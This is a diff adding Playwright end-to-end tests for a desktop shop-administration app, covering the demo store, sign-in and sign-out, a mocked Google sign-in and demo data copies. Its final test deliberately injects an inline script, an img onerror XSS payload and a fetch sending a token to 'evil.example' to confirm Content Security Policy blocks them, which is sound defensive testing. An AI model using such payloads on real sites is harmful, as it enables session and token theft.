@@ -1,0 +1,183 @@
+import { existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { expect, type Page, test } from '@playwright/test';
+import BetterSqlite3 from 'better-sqlite3';
+import type { DesktopApi } from '#shared/desktop/calls.ts';
+import { adminMessages } from '#shared/messages/admin.ts';
+import { addressProblems, connectMessages, desktopMessages } from '#shared/messages/desktop.ts';
+import { loginMessages } from '#shared/messages/login.ts';
+import { navigationMessages } from '#shared/messages/navigation.ts';
+import { type AppWindow, type AppWindowOptions, openAppWindow } from './support/app-window.ts';
+
+declare global {
+  interface Window {
+    bulkheadDesktop?: DesktopApi;
+  }
+}
+
+// The built pages in Chromium, with the real handlers behind the bridge and the built server as the demo store.
+
+const PASSWORD = 'bulkhead-demo';
+const windows: AppWindow[] = [];
+// The sample data takes seconds to make, so only the first test waits for it.
+const cache = mkdtempSync(path.join(tmpdir(), 'bulkhead-sample-'));
+const sample = path.join(cache, 'demo.sqlite');
+const sampleData = () => (existsSync(sample) ? sample : null);
+
+test.afterEach(async () => {
+  for (const app of windows.splice(0)) await app.close(sample);
+});
+test.afterAll(() => rmSync(cache, { recursive: true }));
+
+async function firstStart(page: Page, options: AppWindowOptions = {}): Promise<AppWindow> {
+  const app = await openAppWindow(page, { sampleData: sampleData(), ...options });
+  windows.push(app);
+  await app.open('/dashboard/allorders');
+  await expect(page.getByRole('heading', { name: connectMessages.title })).toBeVisible();
+  return app;
+}
+
+async function openDemo(page: Page): Promise<void> {
+  await page.getByRole('button', { name: connectMessages.openDemo }).click();
+  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible({ timeout: 60_000 });
+}
+
+async function signIn(page: Page, email: string): Promise<void> {
+  await page.getByLabel(loginMessages.email, { exact: false }).first().fill(email);
+  await page.getByLabel(loginMessages.password).first().fill(PASSWORD);
+  await page.getByRole('button', { name: loginMessages.submit, exact: true }).click();
+}
+
+const allOrders = (page: Page) => page.getByRole('heading', { name: adminMessages.allOrders, level: 1 });
+
+test('first start: an address is checked; the demo store opens; an administrator sees All Orders', async ({ page }) => {
+  const app = await firstStart(page);
+  await page.getByLabel(connectMessages.address).fill('http://shop.example.com');
+  await page.getByRole('button', { name: connectMessages.connect, exact: true }).click();
+  await expect(page.getByText(addressProblems.insecure)).toBeVisible();
+
+  await openDemo(page);
+  await signIn(page, 'admin@bulkhead.example');
+  await expect(allOrders(page)).toBeVisible();
+  await expect(page.getByRole('row').nth(5)).toBeVisible();
+
+  await app.navigate('/dashboard/manageproduct');
+  await expect(page.getByRole('heading', { name: adminMessages.manageProducts, level: 1 })).toBeVisible();
+  // Pictures of the demo lie in the application's own folder.
+  const picture = page.locator('main img').first();
+  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
+
+  await page.evaluate(() =>
+    window.bulkheadDesktop?.notify({ title: 'New order', body: '5 pieces', path: '/dashboard/allorders' }),
+  );
+  await page.evaluate(() => window.bulkheadDesktop?.setBadge({ count: 2 }));
+  expect(app.notifications).toEqual([{ title: 'New order', body: '5 pieces', path: '/dashboard/allorders' }]);
+  await app.navigate(app.notifications[0]?.path ?? '');
+  await expect(allOrders(page)).toBeVisible();
+  expect(app.badges).toEqual([2]);
+  expect(app.complaints).toEqual([]);
+});
+
+test('signing out leaves nothing behind, and signing in works again at once', async ({ page }) => {
+  const app = await firstStart(page);
+  await openDemo(page);
+  await signIn(page, 'admin@bulkhead.example');
+  await expect(allOrders(page)).toBeVisible();
+  await page.getByRole('button', { name: navigationMessages.signOut }).click();
+  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
+  await expect.poll(() => app.badges).toEqual([0]);
+  expect(await page.evaluate(() => [Object.keys(localStorage), Object.keys(sessionStorage)])).toEqual([[], []]);
+
+  await signIn(page, 'admin@bulkhead.example');
+  await expect(allOrders(page)).toBeVisible();
+  await page.reload();
+  await expect(allOrders(page)).toBeVisible();
+});
+
+test('a customer is told that this is for administrators, and is signed out', async ({ page }) => {
+  await firstStart(page);
+  await openDemo(page);
+  await signIn(page, 'customer@bulkhead.example');
+  await expect(page.getByText(desktopMessages.administratorsOnly)).toBeVisible();
+  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
+  expect(await page.evaluate(() => localStorage.getItem('accessToken'))).toBeNull();
+  await page.reload();
+  await expect(page.getByRole('heading', { name: loginMessages.title, level: 1 })).toBeVisible();
+});
+
+test("Google's sign-in goes through the user's browser and ends in the application", async ({ page }) => {
+  // A stand-in for Google's token endpoint: everybody is the administrator, with the nonce of the question.
+  let nonce = '';
+  const google = createServer((_request, response) => {
+    const exp = Math.floor(Date.now() / 1000) + 600;
+    const person = { sub: '7', email: 'admin@bulkhead.example', email_verified: true, name: 'Ada Morris' };
+    const claims = { iss: 'https://accounts.google.com', aud: 'desktop', exp, nonce, ...person };
+    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
+    response.writeHead(200, { 'content-type': 'application/json' });
+    response.end(JSON.stringify({ id_token: `${part({ alg: 'RS256' })}.${part(claims)}.signature` }));
+  });
+  await new Promise<void>((resolve) => google.listen(0, '127.0.0.1', resolve));
+  const { port } = google.address() as AddressInfo;
+  await firstStart(page, {
+    google: {
+      endpoints: {
+        authorization: 'https://accounts.google.com/o/oauth2/v2/auth',
+        token: `http://127.0.0.1:${port}/token`,
+        issuers: ['https://accounts.google.com'],
+      },
+      client: async () => ({ clientId: 'desktop', clientSecret: 'known to everyone' }),
+      openBrowser: async (address) => {
+        const asked = new URL(address).searchParams;
+        nonce = asked.get('nonce') ?? '';
+        const answer = new URLSearchParams({ state: asked.get('state') ?? '', code: 'code' });
+        setTimeout(() => void fetch(`${asked.get('redirect_uri')}/?${answer}`), 100);
+        return true;
+      },
+    },
+  });
+  // A shop with real Google accounts, whose identity service happens to be the demo's.
+  await page.route('**/api/config', async (route) => {
+    const answer = await route.fetch();
+    await route.fulfill({ response: answer, json: { ...(await answer.json()), demo: false } });
+  });
+  await openDemo(page);
+  await page.getByRole('button', { name: loginMessages.google }).click();
+  await expect(allOrders(page)).toBeVisible();
+  google.close();
+});
+
+test('a copy of the demo store is whole, and starting over brings the sample data back', async ({ page }) => {
+  let copy = '';
+  const app = await firstStart(page, { dialogs: { saveFile: async () => copy } });
+  copy = path.join(app.folder, 'copy.sqlite');
+  await openDemo(page);
+  expect(await page.evaluate(() => window.bulkheadDesktop?.saveDemoCopy())).toEqual({ status: 'done' });
+  const copied = new BetterSqlite3(copy, { readonly: true });
+  expect(copied.pragma('integrity_check', { simple: true })).toBe('ok');
+  expect(copied.prepare('select count(*) as count from products').get()).toEqual({ count: 26 });
+  copied.close();
+  expect(await page.evaluate(() => window.bulkheadDesktop?.startDemoOver())).toEqual({ status: 'done' });
+});
+
+test('a script from elsewhere does not run, and nothing can be sent elsewhere', async ({ page }) => {
+  const app = await firstStart(page);
+  await openDemo(page);
+  const attempt = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.stolen = true';
+    document.body.append(script);
+    const image = document.createElement('div');
+    image.innerHTML = '<img src="x" onerror="window.stolen = true">';
+    document.body.append(image);
+    const sent = await fetch('https://evil.example/?token').then(
+      () => true,
+      () => false,
+    );
+    return { stolen: 'stolen' in window, sent };
+  });
+  expect(attempt).toEqual({ stolen: false, sent: false });
+  expect(app.complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(3);
+});
